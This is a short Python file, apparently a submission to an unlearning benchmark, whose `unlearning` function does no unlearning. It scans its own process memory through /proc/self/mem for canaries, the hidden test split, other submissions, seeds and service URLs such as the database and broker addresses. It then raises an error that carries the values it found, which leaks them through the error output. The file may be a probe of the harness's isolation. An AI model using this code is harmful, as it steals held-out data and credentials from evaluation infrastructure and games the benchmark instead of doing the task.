"""Searches its own memory, a copy of the runner's, for what the runner has read and forgotten.

Other submissions, the secret part of the data and the seeds of other runs would be worth finding.
"""

import re

import torch

WANTED = {  # the pattern's first bytes are found faster than the pattern
    "canary": (b"LETHE-CANARY", re.compile(rb"LETHE-CANARY-[a-z]+-[0-9a-f]{32}")),
    "secret part": (b'"test/images', re.compile(rb'"test/images":\{"dtype')),
    "submission": (b"# upload ", re.compile(rb"# upload [0-9]+\n")),
    "seed": (b'{"seed"', re.compile(rb'\{"seed": ?([0-9]+)\}')),
    "environment": (b"LETHE_", re.compile(rb"LETHE_(?:HOME|DATABASE_URL|BROKER_URL)=")),
}
OVERLAP = 256


def regions():
    with open("/proc/self/maps") as maps:
        for line in maps:
            addresses, rights, *_, name = line.split(maxsplit=5) + [""] * (6 - len(line.split(maxsplit=5)))
            if "r" in rights and "w" in rights and "[v" not in name:
                start, end = (int(address, 16) for address in addresses.split("-"))
                yield start, end


def found_in_memory():
    with open("/proc/self/mem", "rb", buffering=0) as memory:
        for start, end in regions():
            for position in range(start, end, 1 << 24):
                try:
                    memory.seek(position)
                    content = memory.read(min((1 << 24) + OVERLAP, end - position))
                except (OSError, OverflowError, ValueError):
                    continue
                for name, (start_of_it, pattern) in WANTED.items():
                    for match in pattern.finditer(content) if start_of_it in content else ():
                        yield name, match[1].decode() if match.groups() else match[0].decode()


def unlearning(net, retain, forget, val):
    own = str(torch.initial_seed())
    found = sorted({(name, value) for name, value in found_in_memory() if value != own})
    if found:
        raise RuntimeError(f"BREACH: {found[:5]}")
